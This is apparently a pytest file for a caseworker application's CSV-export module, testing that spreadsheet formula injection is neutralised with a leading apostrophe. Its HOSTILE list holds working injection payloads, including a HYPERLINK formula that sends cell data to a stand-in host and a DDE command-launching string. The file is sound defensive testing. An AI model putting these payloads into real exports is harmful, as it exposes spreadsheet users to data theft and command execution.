"""Spreadsheet formula neutralisation: hostile client text stays text."""

from __future__ import annotations

import csv
import io
import stat
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from caseworker.core.domain import NeedDomain
from caseworker.reports.csvsafe import FORMULA_TRIGGERS, neutralise, to_csv_text, write_csv_file

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "＝1+1",
    "－5",
    "=",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_hostile_cells_get_a_leading_apostrophe(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["Amina", "محمد الأحمد", "Олена", "ዮሃንስ", "王秀英", "a=b", "1-2", "", "O'Neil"]
)
def test_ordinary_text_is_left_alone(cell: str) -> None:
    assert neutralise(cell) == cell


def test_numbers_stay_numbers_and_other_values_become_text() -> None:
    assert neutralise(-5) == -5
    assert neutralise(2.5) == 2.5
    assert neutralise(None) == ""
    assert neutralise(True) == "yes"
    assert neutralise(date(2026, 1, 2)) == "2026-01-02"
    assert neutralise(NeedDomain.HOUSING) == "housing"


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(max_size=30), min_size=1, max_size=5))
def test_no_cell_read_back_can_start_a_formula(row: list[str]) -> None:
    text = to_csv_text(["h"] * len(row), [row])
    back = _cells(text)[1]
    assert len(back) == len(row)
    for original, cell in zip(row, back, strict=True):
        stripped = cell.lstrip(" \u00a0\u3000\n")
        assert not (stripped and stripped[0] in FORMULA_TRIGGERS)
        assert cell in (original, "'" + original)  # nothing lost: the text is still all there


def test_csv_file_is_private_utf8_with_bom_and_atomic(tmp_path: Path) -> None:
    path = tmp_path / "report.csv"
    n = write_csv_file(path, ["name", "count"], [["=1+1", 3], ["محمد", 4]])
    assert n == 2
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = _cells(raw.decode("utf-8-sig"))
    assert rows == [["name", "count"], ["'=1+1", "3"], ["محمد", "4"]]

    def broken() -> object:
        yield ["ok", 1]
        raise OSError("disk full")

    with pytest.raises(OSError, match="disk full"):
        write_csv_file(tmp_path / "other.csv", ["a", "b"], broken())  # type: ignore[arg-type]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.csv"]
